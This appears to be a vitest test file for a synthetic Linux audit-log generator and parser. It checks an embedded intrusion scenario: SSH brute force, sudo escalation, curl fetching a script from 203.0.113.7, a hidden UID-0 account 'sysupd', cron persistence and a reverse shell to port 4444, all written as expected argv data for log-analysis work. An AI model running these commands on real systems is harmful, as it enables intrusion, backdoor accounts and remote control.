import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type EventFacts, eventFacts } from "../audit/event-facts";
import { formatSockaddr } from "../audit/format-sockaddr";
import { fieldBytes } from "../audit/interpret";
import { parseBuffer } from "../audit/parser";
import { summarize } from "../audit/summary";
import { editTtyLines } from "../audit/tty";
import type { AuditEvent } from "../audit/types";
import {
  createGenerator,
  type GeneratorOptions,
  type GroundTruth,
  generateLog,
  splitCommandLine,
} from "./generate-log";

const AUREPORT = "/usr/sbin/aureport";
const haveAureport = existsSync(AUREPORT);
if (!haveAureport) console.warn(`generate-log.test: ${AUREPORT} not found, skipping the aureport comparison`);

function generate(options: GeneratorOptions): { text: string; chunks: string[]; truth: GroundTruth } {
  const { chunks, truth } = createGenerator(options);
  const all = [...chunks];
  return { text: all.join(""), chunks: all, truth };
}

interface Parsed {
  events: AuditEvent[];
  bySerial: Map<number, { event: AuditEvent; facts: EventFacts }>;
  malformed: number;
  records: number;
  lines: number;
  bytes: number;
}

function parse(text: string): Parsed {
  const out = parseBuffer(Buffer.from(text, "latin1"));
  const bySerial = new Map<number, { event: AuditEvent; facts: EventFacts }>();
  for (const event of out.events) bySerial.set(event.serial, { event, facts: eventFacts(event) });
  return {
    events: out.events,
    bySerial,
    malformed: out.malformed.length,
    records: out.stats.records,
    lines: out.stats.lines,
    bytes: out.stats.bytes,
  };
}

/** The `msg='…'` inner field as written, from the first record holding it. */
function field(event: AuditEvent, name: string): string | undefined {
  for (const r of event.records) {
    const v = r.fields.get(name);
    if (v !== undefined) return v;
  }
  return undefined;
}

describe("determinism", () => {
  it("gives the same bytes for the same seed, and different bytes for another seed", () => {
    const a = generate({ seed: 42, targetBytes: 300_000 }).text;
    const b = generate({ seed: 42, targetBytes: 300_000 }).text;
    const c = generate({ seed: 43, targetBytes: 300_000 }).text;
    expect(a).toBe(b);
    expect(c).not.toBe(a);
  });

  it("generateLog yields the same chunks as createGenerator", () => {
    const viaCreate = generate({ seed: 5, targetBytes: 150_000 }).text;
    expect([...generateLog({ seed: 5, targetBytes: 150_000 })].join("")).toBe(viaCreate);
  });

  it("yields chunks of whole lines, at most 64 KiB each, and stops near the target", () => {
    const { chunks, truth, text } = generate({ seed: 9, targetBytes: 1_000_000 });
    for (const chunk of chunks) {
      expect(chunk.length).toBeLessThanOrEqual(64 * 1024);
      expect(chunk.endsWith("\n")).toBe(true);
    }
    expect(text.length).toBe(truth.bytes);
    expect(truth.bytes).toBeGreaterThanOrEqual(1_000_000);
    expect(truth.bytes).toBeLessThan(1_000_000 + 64 * 1024);
  });

  it("keeps serials and timestamps increasing", () => {
    const { text } = generate({ seed: 11, targetBytes: 500_000 });
    let lastSerial = 0;
    let lastStamp = 0;
    for (const m of text.matchAll(/msg=audit\((\d+)\.(\d{3}):(\d+)\)/g)) {
      const stamp = Number(m[1]) * 1000 + Number(m[2]);
      const serial = Number(m[3]);
      expect(serial).toBeGreaterThanOrEqual(lastSerial);
      expect(stamp).toBeGreaterThanOrEqual(lastStamp);
      lastSerial = serial;
      lastStamp = stamp;
    }
  });
});

describe("splitCommandLine", () => {
  it("splits pipelines and keeps double-quoted words whole", () => {
    expect(splitCommandLine('journalctl -u nginx --since "1 hour ago" | tail')).toEqual([
      ["journalctl", "-u", "nginx", "--since", "1 hour ago"],
      ["tail"],
    ]);
  });
});

describe("the parser reads it all", () => {
  const cases: [string, GeneratorOptions][] = [
    ["raw", { seed: 1, targetBytes: 2_000_000 }],
    ["enriched, node= prefix", { seed: 2, targetBytes: 1_000_000, format: "enriched", node: "web01" }],
    ["without EOE", { seed: 3, targetBytes: 1_000_000, eoe: false }],
  ];
  it.each(cases)("%s: 0 malformed, and the counts match the truth", (_name, options) => {
    const { text, truth } = generate(options);
    const parsed = parse(text);
    expect(parsed.malformed).toBe(0);
    expect(parsed.events.length).toBe(truth.events);
    expect(parsed.records).toBe(truth.records);
    expect(parsed.lines).toBe(truth.lines);
    expect(parsed.bytes).toBe(truth.bytes);
    const typeCounts: Record<string, number> = {};
    for (const e of parsed.events)
      for (const r of e.records) typeCounts[r.type] = (typeCounts[r.type] ?? 0) + 1;
    expect(typeCounts).toEqual(truth.recordTypes);
    if (options.eoe === false) expect(truth.recordTypes.EOE).toBeUndefined();
    for (const e of parsed.events) {
      expect(e.node).toBe(options.node ?? null);
      for (const r of e.records) {
        expect(r.format).toBe(r.enriched ? "enriched" : "raw");
        if (options.format !== "enriched") expect(r.enriched).toBeNull();
      }
    }
    if (options.format === "enriched") {
      const enriched = parsed.events.flatMap((e) => e.records).filter((r) => r.enriched !== null);
      expect(enriched.length).toBeGreaterThan(parsed.events.length / 2);
      const syscall = enriched.find((r) => r.type === "SYSCALL");
      expect(syscall?.enriched?.get("ARCH")).toBe("x86_64");
      expect(syscall?.format).toBe("enriched");
    }
    // Counters that the reports will rely on.
    const facts = parsed.events.map(eventFacts);
    expect(facts.filter((f) => f.types[0] === "USER_LOGIN" && f.success === false).length).toBe(
      truth.failedLogins,
    );
    expect(facts.filter((f) => f.types[0] === "USER_AUTH" && f.success === false).length).toBe(
      truth.failedAuths,
    );
    expect(facts.filter((f) => f.syscall === "execve").length).toBe(truth.execs);
    expect(facts.filter((f) => f.types.includes("LOGIN")).length).toBe(truth.sessions);
    expect(facts.filter((f) => f.types[0] === "TTY").length).toBe(truth.ttyRecords);
    for (const f of facts) expect(summarize(f).text.length).toBeGreaterThan(0);
  });

  it("has the shape of a real log: records per event and bytes per event", () => {
    const { truth } = generate({ seed: 4, targetBytes: 8_000_000 });
    const recordsPerEvent = truth.records / truth.events;
    const bytesPerEvent = truth.bytes / truth.events;
    expect(recordsPerEvent).toBeGreaterThanOrEqual(3.5);
    expect(recordsPerEvent).toBeLessThanOrEqual(4.3);
    expect(bytesPerEvent).toBeGreaterThanOrEqual(700);
    expect(bytesPerEvent).toBeLessThanOrEqual(1200);
    // Several events per second in bursts, over hours rather than seconds.
    expect(truth.lastSec - truth.startSec).toBeGreaterThan(3600);
  });
});

describe("the story", () => {
  // Small on purpose: the story must fit whole in a 200 KB log.
  const { text, truth } = generate({ seed: 7, targetBytes: 200_000 });
  const parsed = parse(text);
  const story = truth.story;
  if (!story) throw new Error("no story");
  const at = (serial: number) => {
    const found = parsed.bySerial.get(serial);
    if (!found) throw new Error(`no event with serial ${serial}`);
    return found;
  };

  it("is complete even in a 200 KB log", () => {
    expect(truth.storyComplete).toBe(true);
    // The target is passed only by what the story still had to write.
    expect(truth.bytes).toBeLessThan(300_000);
    expect(parsed.malformed).toBe(0);
    expect(story.endSec).toBeGreaterThan(story.startSec);
  });

  it("brute force: failed USER_AUTH and USER_LOGIN for root from one address, as many as the truth says", () => {
    const fromAttacker = [...parsed.bySerial.values()].filter(({ facts }) => facts.addr === story.attackerIp);
    const failedLogins = fromAttacker.filter(
      ({ facts }) => facts.types[0] === "USER_LOGIN" && facts.success === false,
    );
    const failedAuths = fromAttacker.filter(
      ({ facts }) => facts.types[0] === "USER_AUTH" && facts.success === false,
    );
    expect(story.bruteForce.attempts).toBe(36);
    expect(failedLogins.length).toBe(story.bruteForce.attempts);
    expect(failedAuths.length).toBe(story.bruteForce.attempts);
    for (const { facts } of [...failedLogins, ...failedAuths]) expect(facts.acct).toBe("root");
    expect(new Set(failedLogins.map(({ facts }) => facts.pid))).toEqual(new Set(story.bruteForce.sshdPids));
    // Then a successful login as the victim from the same address.
    const success = fromAttacker.filter(
      ({ facts }) => facts.types[0] === "USER_LOGIN" && facts.success === true,
    );
    expect(success.length).toBe(1);
    expect(success[0]?.facts.auid).toBe(story.victim.uid);
    expect(success[0]?.facts.ses).toBe(story.session.ses);
  });

  it("the login sets auid and a new ses", () => {
    const { event, facts } = at(story.session.loginSerial);
    const login = event.records.find((r) => r.type === "LOGIN");
    expect(login?.fields.get("old-auid")).toBe("4294967295");
    expect(login?.fields.get("auid")).toBe(String(story.victim.uid));
    expect(login?.fields.get("old-ses")).toBe("4294967295");
    expect(login?.fields.get("ses")).toBe(String(story.session.ses));
    expect(facts.pid).toBe(story.session.sshdPid);
    expect(story.session.auid).toBe(1001);
  });

  it("every story exec parses to the truth's argv, pids, ids and cwd", () => {
    expect(story.execs.length).toBeGreaterThan(15);
    for (const exec of story.execs) {
      const { facts, event } = at(exec.serial);
      expect(event.sec).toBe(exec.sec);
      expect(event.ms).toBe(exec.ms);
      expect(facts.syscall).toBe("execve");
      expect(facts.argv).toEqual(exec.argv);
      expect(facts.pid).toBe(exec.pid);
      expect(facts.ppid).toBe(exec.ppid);
      expect(facts.uid).toBe(exec.uid);
      expect(facts.euid).toBe(exec.euid);
      expect(facts.auid).toBe(exec.auid === 4294967295 ? null : exec.auid);
      expect(facts.ses).toBe(exec.ses === 4294967295 ? null : exec.ses);
      expect(facts.exe).toBe(exec.exe);
      expect(facts.comm).toBe(exec.comm);
      expect(facts.cwd).toBe(exec.cwd);
      expect(facts.keys).toEqual(["exec"]);
    }
  });

  it("the process tree: bash → sudo → su → bash → curl, chmod, the script → useradd, reverse shell", () => {
    const find = (argv: string[]) => {
      const found = story.execs.find((e) => JSON.stringify(e.argv) === JSON.stringify(argv));
      if (!found) throw new Error(`no exec of ${argv.join(" ")}`);
      return found;
    };
    const sudo = find(["sudo", "su", "-"]);
    const su = find(["su", "-"]);
    const curl = find(["curl", "-O", "http://203.0.113.7/a.sh"]);
    const chmod = find(["chmod", "+x", "/tmp/a.sh"]);
    const script = find(["/bin/bash", "/tmp/a.sh"]);
    const useradd = find(["useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", "sysupd"]);
    const reverse = find(["bash", "-i"]);
    expect(sudo.ppid).toBe(story.session.shellPid);
    expect(sudo.uid).toBe(1001);
    expect(sudo.euid).toBe(0);
    expect(su.ppid).toBe(sudo.pid);
    expect(curl.ppid).toBe(story.sudo.rootShellPid);
    expect(curl.cwd).toBe("/tmp");
    expect(chmod.ppid).toBe(story.sudo.rootShellPid);
    expect(script.ppid).toBe(story.sudo.rootShellPid);
    expect(script.comm).toBe("a.sh");
    expect(useradd.ppid).toBe(script.pid);
    expect(reverse.ppid).toBe(script.pid);
    expect(reverse.pid).toBe(story.c2.pid);
    for (const e of [sudo, su, curl, chmod, script, useradd, reverse]) {
      expect(e.auid).toBe(story.session.auid);
      expect(e.ses).toBe(story.session.ses);
      expect(e.tty).toBe("pts1");
    }
  });

  it("the sudo TTY record decodes to the typed bytes, which edit to the command line", () => {
    const tty = story.sudo.tty;
    expect(tty.typed).toBe("sdo\x7f\x7fudo su -\r");
    expect(tty.dataHex).toBe("73646F7F7F75646F207375202D0D");
    expect(tty.line).toBe("sudo su -");
    for (const t of story.tty) {
      const { event, facts } = at(t.serial);
      const record = event.records[0];
      const raw = record?.fields.get("data");
      if (!record || raw === undefined) throw new Error("no data=");
      expect(raw).toBe(t.dataHex);
      const bytes = fieldBytes(record, "data", raw);
      expect(Buffer.from(bytes ?? []).toString("latin1")).toBe(t.typed);
      const lines = editTtyLines(bytes ?? new Uint8Array());
      expect(lines.map((l) => l.text)).toEqual([t.line]);
      expect(lines[0]?.submitted).toBe(true);
      expect(facts.pid).toBe(t.pid);
      expect(facts.ses).toBe(story.session.ses);
    }
    const userCmd = at(story.sudo.userCmdSerial);
    expect(userCmd.facts.cmd).toBe("su -");
    expect(field(userCmd.event, "cmd")).toBe("7375202D");
  });

  it("download, chmod, cron persistence, /etc/passwd, and the C2 connection", () => {
    const download = at(story.download.connectSerial).facts;
    expect(download.sockaddr && formatSockaddr(download.sockaddr)).toBe("203.0.113.7:80");
    expect(download.pid).toBe(story.download.curlPid);

    const chmod = at(story.chmod.serial).facts;
    expect(chmod.syscall).toBe("fchmodat");
    expect(chmod.paths.map((p) => p.name)).toEqual(["/tmp/a.sh"]);
    expect(chmod.keys).toEqual(["perm_mod"]);

    const cron = at(story.cron.serial).facts;
    expect(cron.syscall).toBe("openat");
    expect(cron.keys).toEqual(["cron"]);
    expect(cron.paths).toContainEqual({ name: story.cron.file, nametype: "CREATE" });
    expect(story.cron.file).toBe("/etc/cron.d/sysupdate");
    expect(cron.pid).toBe(story.script.pid);

    const open = at(story.passwd.openSerial).facts;
    expect(open.keys).toEqual(["identity"]);
    expect(open.paths.map((p) => p.name)).toEqual(["/etc/passwd"]);
    const rename = at(story.passwd.renameSerial).facts;
    expect(rename.syscall).toBe("rename");
    expect(rename.paths).toContainEqual({ name: "/etc/passwd", nametype: "CREATE" });
    const addUser = at(story.passwd.addUserSerial);
    expect(addUser.facts.types).toEqual(["ADD_USER"]);
    expect(addUser.facts.acct).toBe("sysupd");
    expect(addUser.facts.auid).toBe(story.session.auid);

    const c2 = at(story.c2.connectSerial).facts;
    expect(c2.syscall).toBe("connect");
    expect(c2.sockaddr && formatSockaddr(c2.sockaddr)).toBe(story.c2.address);
    expect(story.c2.address).toBe("203.0.113.7:4444");
    expect(c2.pid).toBe(story.c2.pid);
    expect(c2.comm).toBe("a.sh");
    expect(c2.auid).toBe(story.session.auid);
  });

  it("serials of the story lie inside the story's range", () => {
    const serials = [
      story.session.loginSerial,
      story.sudo.userCmdSerial,
      story.download.connectSerial,
      story.chmod.serial,
      story.cron.serial,
      story.passwd.addUserSerial,
      story.c2.connectSerial,
      ...story.execs.map((e) => e.serial),
      ...story.tty.map((t) => t.serial),
    ];
    for (const s of serials) {
      expect(s).toBeGreaterThanOrEqual(story.firstSerial);
      expect(s).toBeLessThanOrEqual(story.lastSerial);
    }
  });

  it("is absent with story: false", () => {
    const { truth: quiet, text: quietText } = generate({ seed: 7, targetBytes: 200_000, story: false });
    expect(quiet.story).toBeNull();
    expect(quietText).not.toContain("198.51.100.77");
    expect(quietText).not.toContain("0200115CCB007107");
  });
});

describe.skipIf(!haveAureport)(
  `aureport -e agrees${haveAureport ? "" : " (skipped: /usr/sbin/aureport missing)"}`,
  () => {
    let dir = "";
    beforeAll(() => {
      dir = mkdtempSync(path.join(tmpdir(), "auditscope-gen-"));
    });
    afterAll(() => {
      if (dir) rmSync(dir, { recursive: true, force: true });
    });

    it.each([
      ["raw", { seed: 21, targetBytes: 2_000_000 }],
      ["enriched", { seed: 22, targetBytes: 1_000_000, format: "enriched" }],
    ] as [string, GeneratorOptions][])(
      "%s: the same events, serials and seconds as the parser",
      (name, options) => {
        const { text, truth } = generate(options);
        const file = path.join(dir, `${name}.log`);
        writeFileSync(file, text, "latin1");
        const report = execFileSync(AUREPORT, ["-if", file, "-e"], {
          env: { ...process.env, TZ: "UTC", LC_ALL: "C" },
          maxBuffer: 64 * 1024 * 1024,
        }).toString("latin1");
        const rows = [...report.matchAll(/^\d+\. (\d\d)\/(\d\d)\/(\d\d) (\d\d):(\d\d):(\d\d) (\d+) /gm)].map(
          (m) => {
            const [, mo, d, y, h, mi, s, serial] = m.map(Number) as number[];
            return {
              serial: serial as number,
              sec: Date.UTC(2000 + (y as number), (mo as number) - 1, d, h, mi, s) / 1000,
            };
          },
        );
        const parsed = parse(text);
        const ours = new Set(parsed.events.map((e) => `${e.serial}@${e.sec}`));
        const theirs = new Set(rows.map((r) => `${r.serial}@${r.sec}`));
        expect(theirs).toEqual(ours);
        // aureport counts a LOGIN record apart from the SYSCALL sharing its stamp: one more row each.
        const split = parsed.events.filter(
          (e) => e.records.some((r) => r.type === "LOGIN") && e.records.length > 1,
        );
        expect(rows.length).toBe(parsed.events.length + split.length);
        expect(split.length).toBe(truth.sessions);
      },
    );
  },
);
